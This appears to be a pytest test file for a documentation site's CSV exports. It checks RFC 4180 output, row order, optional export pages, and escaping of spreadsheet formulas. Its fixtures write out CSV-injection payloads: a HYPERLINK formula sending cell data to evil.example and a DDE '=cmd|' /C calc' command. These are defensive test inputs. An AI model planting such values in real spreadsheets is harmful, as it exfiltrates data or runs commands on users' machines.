"""The site's tables as CSV files (render.exports): RFC 4180, UTF-8, a header row, the page's order, every
cell safe to open in a spreadsheet; and the exports as a page kind a site may leave out."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from mltrl_docs.dossier import build_dossier
from mltrl_docs.render.contexts import DossierContext, PacketContext, PortfolioContext
from mltrl_docs.render.exports import (
    MATRIX_COLUMNS,
    PORTFOLIO_COLUMNS,
    export_files,
    matrix_csv,
    portfolio_csv,
    spreadsheet_cell,
    to_csv,
)
from mltrl_docs.render.html import Renderer
from mltrl_docs.render.pages import OPTIONAL_PAGES, site_pages


def rows_of(text: str) -> list[list[str]]:
    """The CSV read back as a spreadsheet or a script reads it."""
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_a_spreadsheet_would_run_as_a_formula_starts_with_an_apostrophe(start: str) -> None:
    formula = f"{start}HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    assert spreadsheet_cell(formula) == "'" + formula
    [header, row] = rows_of(to_csv(["text"], [[formula]]))
    assert (header, row) == (["text"], ["'" + formula])


@pytest.mark.parametrize("value", ["plain", "a=b", " =1+1", "'quoted", "Ünïcödé ≥ 0.92", 42, 0, ""])
def test_any_other_cell_is_written_as_it_is(value: object) -> None:
    assert spreadsheet_cell(value) == str(value)
    assert spreadsheet_cell(None) == ""


def test_csv_is_rfc_4180_with_crlf_lines_and_quotes_only_where_needed() -> None:
    text = to_csv(["id", "text"], [["1", 'says "hi", twice'], ["2", "two\nlines"], ["3", "plain"]])
    assert text == 'id,text\r\n1,"says ""hi"", twice"\r\n2,"two\nlines"\r\n3,plain\r\n'
    assert rows_of(text) == [["id", "text"], ["1", 'says "hi", twice'], ["2", "two\nlines"], ["3", "plain"]]


R1 = {"id": "1", "kind": "research", "text": "=cmd|' /C calc'!A0, then \"detect\" drift", "verification": "test",
      "status": "verified"}
R2 = {"id": "2", "kind": "research", "text": "Explain each alert.", "verification": "demonstration",
      "status": "in-progress", "risk": {"likelihood": 4, "impact": 3}}
R2B = {**R2, "text": "Explain each alert in words.", "status": "verified"}
R3 = {"id": "3", "kind": "product", "text": "@SUM(1+1) pages the on-call engineer.", "verification": "test",
      "status": "not-started"}


def write_site(write_card) -> None:
    write_card("src/c1/L2.md", level=2, date="2024-01-01", requirements=[R1, R2], team="-Ops, Müller & Söhne")
    write_card("src/c1/L3.md", level=3, date="2024-06-01", transition={"from": 2, "kind": "advance"},
               requirements=[R2B, R3], team="-Ops, Müller & Söhne")
    write_card("src/d2/L1.md", project="D2", title="+Second", level=1, date="2024-02-01", reviewers=[])


def test_the_matrix_csv_has_the_pages_rows_and_columns(write_card, tmp_path: Path) -> None:
    write_site(write_card)
    dossier = build_dossier([tmp_path / "src"])
    [page] = [p for p in site_pages(dossier) if p.uri == "dossier/C1/index.md"]
    assert isinstance(page.context, DossierContext)
    text = matrix_csv(page.context.matrix)
    rows = rows_of(text)
    # The current card first, as on the page; research rows, then product.
    assert rows[0] == [*MATRIX_COLUMNS, "L3 2024-06-01", "L2 2024-01-01"]
    assert rows[1] == ["1", "research", "'" + R1["text"], "test", "", "", "", "removed", "verified"]
    assert rows[2] == ["2", "research", "Explain each alert in words.", "demonstration", "4", "3", "12",
                       "verified; changed", "in-progress"]
    assert rows[3] == ["3", "product", "'" + R3["text"], "test", "", "", "", "not-started; new", ""]
    assert len(rows) == 4 and text.endswith("\r\n") and text.encode("utf-8")


def test_the_portfolio_csv_has_a_row_per_project_in_the_pages_order(write_card, tmp_path: Path) -> None:
    write_site(write_card)
    write_card("src/E3/L5.md", project="E3", level=5, status="aproved")  # invalid: E3 has no valid card
    dossier = build_dossier([tmp_path / "src"])
    [page] = [p for p in site_pages(dossier) if p.uri == "dossier/index.md"]
    assert isinstance(page.context, PortfolioContext)
    rows = rows_of(portfolio_csv(page.context.rows))
    assert rows[0] == list(PORTFOLIO_COLUMNS)
    by_id = {row[0]: dict(zip(PORTFOLIO_COLUMNS, row, strict=True)) for row in rows[1:]}
    assert [row[0] for row in rows[1:]] == [row.project.id for row in page.context.rows]
    c1 = by_id["C1"]
    assert (c1["team"], c1["level"], c1["level_name"], c1["phase"], c1["status"], c1["last_review"]) == (
        "'-Ops, Müller & Söhne", "3", "System development", "prototyping", "approved", "2024-03-05")
    assert (c1["requirements_verified"], c1["requirements_total"], c1["requirements_waived"]) == ("1", "2", "0")
    assert c1["earned_level"].isdigit() and c1["open_findings"].isdigit()
    assert by_id["D2"]["title"] == "'+Second" and by_id["D2"]["last_review"] == ""
    e3 = by_id["E3"]
    assert e3["level"] == e3["status"] == e3["earned_level"] == "" and int(e3["open_findings"]) >= 1


def test_exports_are_a_page_kind_a_site_may_leave_out(write_card, tmp_path: Path) -> None:
    write_site(write_card)
    dossier = build_dossier([tmp_path / "src"])
    env = Renderer("dossier").env
    assert "exports" in OPTIONAL_PAGES
    pages = site_pages(dossier, "dossier")
    files = export_files((page.context for page in pages), env)
    assert sorted(files) == ["dossier/C1/badge.svg", "dossier/C1/requirements.csv", "dossier/D2/badge.svg",
                             "dossier/D2/requirements.csv", "dossier/portfolio.csv"]
    # A packet's context is the dossier's, with no exports of its own (they are the dossier's).
    assert all(page.context.exports is None for page in pages if isinstance(page.context, PacketContext))
    without = site_pages(dossier, "dossier", [kind for kind in OPTIONAL_PAGES if kind != "exports"])
    assert export_files((page.context for page in without), env) == {}
    assert all(getattr(page.context, "exports", None) is None and getattr(page.context, "csv", None) is None
               for page in without)


def test_exports_sit_beside_their_pages_under_any_prefix(write_card, tmp_path: Path) -> None:
    write_site(write_card)
    dossier = build_dossier([tmp_path / "src"])
    files = export_files((page.context for page in site_pages(dossier, "org/dossier")), Renderer("org/dossier").env)
    assert "org/dossier/portfolio.csv" in files and "org/dossier/C1/badge.svg" in files
    bare = export_files((page.context for page in site_pages(dossier, "")), Renderer("").env)
    assert sorted(bare)[:2] == ["C1/badge.svg", "C1/requirements.csv"] and "portfolio.csv" in bare
